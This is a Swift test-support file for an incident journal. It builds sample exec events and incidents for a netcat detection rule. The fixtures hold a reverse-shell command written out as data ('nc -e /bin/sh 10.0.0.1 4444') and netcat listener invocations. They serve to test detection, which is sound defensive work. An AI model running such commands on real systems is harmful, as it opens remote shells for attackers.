import ExecEvents
import RuleEngine

@testable import Journal

#if canImport(Glibc)
import Glibc
#endif

func fileExists(_ path: String) -> Bool {
    access(path, F_OK) == 0
}

/// Builds incidents of the netcat rule's shape; `group` makes distinct incidents.
enum Sample {
    static let firstSeen = EventTime(millisecondsSinceEpoch: 1_795_860_000_123)

    /// An event with every attribute, and one whose argument is not UTF-8 and that carries extra
    /// attributes, and one with `args` but without `procName` and `swParam`.
    static func triggerEvents(host: String, user: String, at time: EventTime) -> [ExecEvent] {
        [
            ExecEvent(
                eventTime: time,
                hostName: host,
                user: user,
                procName: "nc",
                swParam: "-e /bin/sh 10.0.0.1 4444",
                procId: 4242,
                parentProcId: 4000,
                parentProcName: "bash",
                exePath: "/usr/bin/nc.openbsd",
                cwd: "/home/\(user)",
                uid: 1000,
                euid: 1000,
                auid: 1000,
                loginUser: user,
                tty: "pts0",
                auditKey: "execwatch",
                args: [Array("nc".utf8), Array("-e".utf8), Array("/bin/sh".utf8), Array("10.0.0.1".utf8)]
            ),
            ExecEvent(
                eventTime: time.adding(seconds: 1),
                hostName: host,
                user: user,
                procName: "nc",
                swParam: "-l \u{FFFD}",
                args: [Array("nc".utf8), Array("-l".utf8), [0xFF, 0xFE]],
                extra: ["phRecvTime": .integer(1_795_860_001), "note": .string("quote \" and \\ and \n")]
            ),
            ExecEvent(
                eventTime: time.adding(seconds: 2),
                hostName: host,
                args: [Array("/usr/bin/ncat".utf8), Array("-lvp".utf8)]
            ),
        ]
    }

    static func incident(
        group: String = "alice",
        ruleId: String = "PH_Rule_TH_Linux_23",
        host: String = "web-1",
        count: Int64 = 1,
        version: Int64 = 1,
        lastSeenOffset seconds: Int64 = 0
    ) -> Incident {
        let swParam = "-e /bin/sh 10.0.0.1 4444"
        return Incident(
            incidentId: IncidentID(
                ruleId: ruleId,
                hostName: host,
                groupValues: [("user", .string(group)), ("procName", .string("nc")), ("swParam", .string(swParam))]
            ),
            ruleId: ruleId,
            ruleName: "Linux: Netcat Process Activity",
            incidentType: "PH_RULE_TH_LINUX_23",
            severity: 7,
            category: "Security",
            tactics: ["Execution"],
            techniques: ["T1059.004"],
            hostName: host,
            attributes: [
                IncidentAttribute(name: "hostName", value: .string(host)),
                IncidentAttribute(name: "user", value: .string(group)),
                IncidentAttribute(name: "procName", value: .string("nc")),
                IncidentAttribute(name: "swParam", value: .string(swParam)),
                IncidentAttribute(name: "procId", value: .integer(4242)),
            ],
            count: count,
            firstSeen: firstSeen,
            lastSeen: firstSeen.adding(seconds: seconds),
            version: version,
            agentId: "agent-\(host)",
            triggerEvents: triggerEvents(host: host, user: group, at: firstSeen)
        )
    }

    /// Version `version` of a group's incident, as the engine would report it (one event more each).
    static func update(
        group: String = "alice",
        ruleId: String = "PH_Rule_TH_Linux_23",
        version: Int64,
        lastSeenOffset: Int64? = nil
    ) -> IncidentUpdate {
        IncidentUpdate(
            kind: version == 1 ? .created : .updated,
            incident: incident(
                group: group,
                ruleId: ruleId,
                count: version,
                version: version,
                lastSeenOffset: lastSeenOffset ?? (version - 1) * 10
            ),
            countIncrement: 1
        )
    }
}

/// The shipped netcat rule's file.
func shippedNetcatRule(file: String = #filePath) -> String {
    // Tests/JournalTests/JournalTestSupport.swift → the repository root.
    var parts = file.split(separator: "/", omittingEmptySubsequences: false)
    parts.removeLast(3)
    return parts.joined(separator: "/") + "/rules/PH_Rule_TH_Linux_23.xml"
}

extension ExecEvent {
    func advanced(by seconds: Int64) -> ExecEvent {
        var event = self
        event.eventTime = eventTime.adding(seconds: seconds)
        return event
    }
}

extension IncidentJournal {
    /// Opens a journal in `directory`, runs `body`, and closes it whatever happens.
    @discardableResult
    static func with<T: Sendable>(
        _ directory: String,
        mode: AccessMode = .readWrite,
        _ body: (IncidentJournal) async throws -> T
    ) async throws -> T {
        let journal = try await IncidentJournal.open(stateDirectory: directory, mode: mode)
        do {
            let result = try await body(journal)
            try await journal.close()
            return result
        } catch {
            try? await journal.close()
            throw error
        }
    }
}
